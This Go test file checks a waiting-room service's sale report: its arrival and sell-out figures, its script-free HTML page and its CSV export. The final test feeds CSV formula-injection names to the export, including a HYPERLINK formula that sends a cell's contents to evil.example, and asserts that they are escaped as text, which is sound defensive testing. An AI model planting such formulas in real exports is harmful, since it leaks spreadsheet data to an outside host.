package report

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/waitroom/waitroom/internal/event"
	"github.com/waitroom/waitroom/internal/history"
)

var t0 = time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)

// sale is a small life: nobody at 0 s; 40 arrivals by 10 s (the first at 2.5 s, read between
// the samples at 0 and 10 s); at 70 s 100 arrivals, 6 left while waiting, 2 never came; the
// 20 units sell out between 80 s and 90 s: 12 sold at 70 s, 18 at 80 s (0.6 a second), so the
// last 2 at 83.3 s;
// then the line is lost and starts again (a store restarted empty) with 5 more arrivals.
func sale() Input {
	e := event.Event{ID: "gig", Name: "Gig", MaxActive: 10, Capacity: 20}.WithDefaults()
	s := func(sec int, last, admitted, left, unclaimed, waiting, sold int64, soldOut bool) history.EventSample {
		return history.EventSample{At: t0.Add(time.Duration(sec) * time.Second), LastNumber: last, AdmittedTotal: admitted,
			LeftWaiting: left, Unclaimed: unclaimed, Waiting: waiting, Capacity: 20, Sold: sold, SoldOut: soldOut,
			Refusals: [4]int64{int64(sec), 0, 1, 0}, Rejected: int64(sec)}
	}
	points := []history.EventSample{
		s(0, 0, 0, 0, 0, 0, 0, false),
		s(10, 40, 10, 0, 0, 30, 0, false),
		s(70, 100, 60, 6, 2, 34, 12, false),
		s(80, 110, 70, 6, 2, 40, 18, false),
		s(90, 112, 80, 7, 2, 25, 20, true),
		s(95, 5, 3, 0, 0, 2, 20, true), // the line lost: its totals start again
	}
	w := history.Waits{}
	for i := range 100 {
		w[history.WaitBucket(time.Duration(i)*time.Second)]++ // 0 to 99 s
	}
	firstMinute := history.Waits{}
	for i := range 10 {
		firstMinute[history.WaitBucket(time.Duration(i)*time.Second)]++
	}
	return Input{Event: e, Now: t0.Add(time.Hour), Points: points, Span: time.Minute, Waits: w, Refusals: [4]int64{95, 3, 1, 0},
		Buckets: []history.Bucket{
			{Event: "gig", Span: time.Minute, Start: t0, Sample: points[1], WaitingMax: 31, Waits: firstMinute},
			{Event: "gig", Span: time.Minute, Start: t0.Add(time.Minute), Sample: points[5], WaitingMax: 50, Waits: w},
		}}
}

func TestMake(t *testing.T) {
	r := Make(sale())
	require.Equal(t, int64(117), r.Arrivals, "112, then 5 after the reset")
	require.Equal(t, int64(83), r.Admitted)
	require.Equal(t, int64(7), r.LeftWaiting)
	require.Equal(t, int64(2), r.Unclaimed)
	require.InDelta(t, 9.0/117, *r.Abandonment, 0.001)
	require.Equal(t, t0.Add(250*time.Millisecond), *r.FirstArrival, "1 of the 40 of the first 10 s")
	require.WithinDuration(t, t0.Add(83333*time.Millisecond), *r.SoldOutAt, time.Millisecond, "18 at 80 s, 0.6 a second: 20 at 83.3 s")
	require.InDelta(t, 83.08, *r.SellOutS, 0.01)
	require.True(t, r.SoldOut)
	require.Equal(t, int64(20), *r.Capacity)
	require.Equal(t, int64(100), r.TimeInLine.Count)
	crash := sale()
	crash.Waits = history.Waits{history.WaitBucket(3 * time.Second): 1} // the life's counts started again
	require.Equal(t, int64(101), Make(crash).TimeInLine.Count, "the long history's 100 and the 1 measured since")
	require.InEpsilon(t, 50, *r.TimeInLine.P50S, 0.05)
	require.InEpsilon(t, 90, *r.TimeInLine.P90S, 0.05)
	require.Equal(t, map[string]int64{"rate_limit": 95, "challenge": 3, "identity": 1, "shared_admission": 0}, r.Refusals, "the life's")
	require.Equal(t, int64(95), r.Rejected, "the fleet's counters are not the line's: no reset")

	require.Len(t, r.Timeline, 2)
	first, second := r.Timeline[0], r.Timeline[1]
	require.Equal(t, t0, first.Start)
	require.Equal(t, int64(40), first.Arrivals, "the first minute: 0 to 40")
	require.Equal(t, int64(31), first.WaitingMax, "its bucket saw 31")
	require.Equal(t, int64(10), first.TimeInLine.Count)
	require.Equal(t, int64(77), second.Arrivals, "40 to 112, then 5")
	require.Equal(t, int64(50), second.WaitingMax)
	require.Equal(t, int64(90), second.TimeInLine.Count, "the life's 100 less the first minute's 10")
	require.Equal(t, int64(20), second.Sold)
	require.Equal(t, r.PeakWaiting, int64(50))

	// A history that starts with arrivals counted (an instance restarted): the first arrival
	// is between the event's creation and that sample when they are a step apart or less,
	// and unknown otherwise.
	late := sale()
	late.Points = late.Points[1:]
	late.Event.CreatedAt = t0
	r = Make(late)
	require.Equal(t, t0.Add(250*time.Millisecond), *r.FirstArrival, "1 of the 40 between the creation and 10 s")
	late.Event.CreatedAt = t0.Add(-time.Hour)
	r = Make(late)
	require.Nil(t, r.FirstArrival, "created an hour before a history that counts 40 already")
	require.Nil(t, r.SellOutS)
	late.Event.CreatedAt = time.Time{}
	require.Nil(t, Make(late).FirstArrival)

	empty := Make(Input{Event: event.Event{ID: "none"}, Now: t0})
	require.Nil(t, empty.FirstArrival)
	require.Nil(t, empty.SellOutS)
	require.Nil(t, empty.Capacity)
	require.Empty(t, empty.Timeline)
}

// TestRender: the page stands alone with its style allowed by hash and no script; the CSV has
// the figures, a blank line and the timeline.
func TestRender(t *testing.T) {
	r := Make(sale())
	var page bytes.Buffer
	require.NoError(t, HTML(&page, r))
	html := page.String()
	require.NotContains(t, html, "<script")
	require.NotRegexp(t, ` style=`, html, "no style attribute: the policy allows the style sheet by its hash only")
	m := regexp.MustCompile(`(?s)<style>(.*?)</style>`).FindStringSubmatch(html)
	require.Len(t, m, 2)
	sum := sha256.Sum256([]byte(m[1]))
	require.Contains(t, ContentSecurityPolicy, "'sha256-"+base64.StdEncoding.EncodeToString(sum[:])+"'", "the inline style is the one hashed")
	for _, want := range []string{"Report: Gig (gig)", "117", "1 min 23 s", "7 left while waiting, 2 admitted who never came",
		"<rect class=\"bar\"", "2026-11-30 12:01:00 UTC"} {
		require.Contains(t, html, want)
	}

	var out bytes.Buffer
	require.NoError(t, CSV(&out, r))
	parts := strings.SplitN(out.String(), "\n\n", 2)
	require.Len(t, parts, 2, "two tables, a blank line between")
	figs, err := csv.NewReader(strings.NewReader(parts[0])).ReadAll()
	require.NoError(t, err)
	fig := map[string]string{}
	for _, row := range figs {
		fig[row[0]] = row[1]
	}
	require.Equal(t, "117", fig["arrivals"])
	require.Equal(t, "83.08", fig["sell_out_s"])
	require.Equal(t, "2026-11-30T12:01:23.333333333Z", fig["sold_out_at"])
	require.Equal(t, "95", fig["refused_rate_limit"])
	rows, err := csv.NewReader(strings.NewReader(parts[1])).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 3, "the header and two minutes")
	require.Equal(t, []string{"start", "arrivals"}, rows[0][:2])
	require.Equal(t, []string{"2026-11-30T12:00:00Z", "40"}, rows[1][:2])
	require.Equal(t, "Gig", fig["name"])

	// A name a spreadsheet would run as a formula is written as text.
	for _, name := range []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1", "-2+3", "@SUM(A1)", "\tx"} {
		r.Name = name
		out.Reset()
		require.NoError(t, CSV(&out, r))
		figs, err := csv.NewReader(strings.NewReader(strings.SplitN(out.String(), "\n\n", 2)[0])).ReadAll()
		require.NoError(t, err)
		require.Equal(t, []string{"name", "'" + name}, figs[2], name)
	}
}
